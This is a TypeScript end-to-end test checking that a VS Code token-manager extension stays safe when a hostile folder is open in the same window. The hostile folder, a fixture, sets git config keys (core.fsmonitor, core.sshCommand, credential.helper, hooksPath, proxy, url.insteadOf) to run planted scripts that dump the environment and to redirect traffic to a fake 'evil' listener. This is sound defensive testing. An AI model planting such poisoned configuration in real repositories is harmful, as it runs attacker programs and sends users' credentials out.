import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, delimiter, join } from 'node:path';
import { openStage, type Stage } from '../harness/stage.ts';
import { makeWorkTree } from '../sandbox/workTree.ts';
import { type EvilListener, holdsToken, startEvilListener } from '../wire/evilListener.ts';
import { pictureIfFailed, picturesOf } from './failurePicture.ts';
import { packaged } from './packaged.ts';
import { readyToken } from './walk.ts';
import { Workbench } from './workbench.ts';

/** What is set for the window as a whole, and once more in the folder that means harm. */
const wishes = (evil: EvilListener, git: string) => ({
  'tokenWarden.hosts': ['evil.ghe.com', `localhost:${evil.port}`],
  'tokenWarden.gitPath': git,
  'tokenWarden.notifications': false,
  'http.proxy': evil.url,
});

/**
 * A folder beside the person's own: its configuration names programs, another address for GitHub and a proxy, its
 * settings name hosts and a git, and that git lies on PATH. Everything of it writes down whom it was run by.
 */
async function hostileFolder(stage: Stage, evil: EvilListener) {
  const { folder, git } = await makeWorkTree({
    sandbox: stage.sandbox,
    repo: 'acme/app',
    branch: 'evil/one',
  });
  const record = join(stage.sandbox.folder, 'ran');
  const program = (name: string, then: string) => {
    const file = join(folder, 'bin', name);
    mkdirSync(join(folder, 'bin'), { recursive: true });
    writeFileSync(file, `#!/bin/sh\n{ echo "ran ${name} $*"; env; } >> '${record}'\n${then}\n`);
    chmodSync(file, 0o755);
    return file;
  };
  const real = (stage.env.PATH ?? '')
    .split(delimiter)
    .map((each) => join(each, 'git'))
    .find((file) => existsSync(file));
  assert.ok(real);
  const gitHere = program('git', `exec '${real}' "$@"`);
  const helper = program('helper', '');
  for (const [key, value] of [
    ['core.fsmonitor', helper],
    ['core.sshCommand', helper],
    ['core.hooksPath', join(folder, 'bin')],
    ['credential.helper', helper],
    ['http.proxy', evil.url],
    [`url.${evil.url}/.insteadOf`, 'https://github.com/'],
    ['remote.origin.url', `${evil.url}/acme/app.git`],
  ] as const) {
    await git('config', key, value);
  }
  program('pre-push', '');
  mkdirSync(join(folder, '.vscode'));
  writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(wishes(evil, gitHere)));
  return {
    folder,
    bin: join(folder, 'bin'),
    gitHere,
    ran: () => (existsSync(record) ? readFileSync(record, 'latin1') : ''),
  };
}

describe('a folder that means harm, beside the person’s own in one window', function () {
  this.timeout(180_000);
  if (process.platform === 'win32') return;

  let stage: Stage;
  let evil: EvilListener;
  let hostile: Awaited<ReturnType<typeof hostileFolder>>;
  let workbench: Workbench;
  let token: string;

  before(async () => {
    const { file: vsix } = await packaged();
    const plain = await openStage();
    evil = await startEvilListener();
    hostile = await hostileFolder(plain, evil);
    token = readyToken(plain, 'fine-grained for acme: contents');
    // VSCODE_CLI: or VS Code asks the login shell for a PATH.
    const env = { ...plain.env, PATH: `${hostile.bin}${delimiter}${plain.env.PATH}`, VSCODE_CLI: '1' };
    stage = { ...plain, env };
    workbench = await Workbench.open({ stage, vsix, pictures: picturesOf('multi-root') });
    const file = join(stage.sandbox.folder, 'both.code-workspace');
    const folders = [stage.workTree.folder, hostile.folder].map((path) => ({ path }));
    writeFileSync(file, JSON.stringify({ folders, settings: wishes(evil, hostile.gitHere) }));
    const url = new URL(workbench.server.origin);
    url.searchParams.set('workspace', file);
    await workbench.page.goto(url.href);
    await workbench.page.locator('.monaco-workbench .statusbar').waitFor();
  });

  afterEach(async function () {
    await pictureIfFailed(this, workbench);
  });

  after(async () => {
    await workbench?.close();
    await stage?.close();
    await evil?.close();
  });

  it('A19 names no host for a token and stays out of the vault', async () => {
    await workbench.command('Add Token');
    await workbench.answerInput('Add Token', token);
    // With a second host known, it would be asked here which one the token belongs to.
    await workbench.answerPick(/acting for acme/);
    await workbench.toast('Stored as github:fine-grained-acme').waitFor();
    await workbench.dismissToasts();
  });

  it('has no part in the push of the other folder', async () => {
    const { sandbox, workTree } = stage;
    const which = workbench.page.locator('.quick-input-titlebar', { hasText: 'Push Branch' });
    await workbench.commandUntil('Push Branch', which, 'No git repository is open here');
    const rows = (await workbench.rows()).map((label) => basename(label));
    assert.deepEqual(
      rows.toSorted(),
      [workTree.folder, hostile.folder].map((each) => basename(each)).toSorted(),
    );
    await workbench.answerPick('Push Branch', basename(workTree.folder));
    await workbench.modal.filter({ hasText: 'https://github.com/acme/app' }).waitFor();
    await workbench.answerModal('Push topic/first to acme/app?', 'Push');
    await workbench.toast('Pushed topic/first to acme/app').waitFor();
    await workbench.dismissToasts();
    const { gitDir } = sandbox.registry.repository('acme/app')?.repository ?? assert.fail();
    const there = await workTree.git('--git-dir', gitDir, 'rev-parse', 'refs/heads/topic/first');
    assert.equal(there.stdout.trim(), workTree.sha);
  });

  it('gets nothing when it is pushed itself: its address is told, and no token leaves', async () => {
    const before = stage.sandbox.log.length;
    await workbench.command('Push Branch');
    await workbench.answerPick('Push Branch', basename(hostile.folder));
    await workbench.page.locator('.notification-list-item').first().waitFor();
    await workbench.picture('refused');
    assert.equal(await workbench.toast('Pushed').count(), 0);
    const pushes = stage.sandbox.log.slice(before).filter(({ path }) => path.includes('receive-pack'));
    assert.deepEqual(pushes, []);
  });

  it('A19 has seen no token, and its git and hooks were run by none of ours', () => {
    const ran = hostile.ran();
    // VS Code's own git extension takes the first git on PATH: the canary sings.
    assert.match(ran, /^ran git /m);
    assert.deepEqual(
      {
        token: holdsToken(ran, token),
        isolated: /^ran git .*--git-dir=|^GIT_CONFIG_GLOBAL=\/dev\/null$/m.exec(ran)?.[0],
        pushed: /^ran (?:git (?:.* )?push |pre-push)/m.exec(ran)?.[0],
        evil: { connections: evil.connections(), token: holdsToken(evil.heard(), token) },
      },
      { token: false, isolated: undefined, pushed: undefined, evil: { connections: 0, token: false } },
    );
  });
});
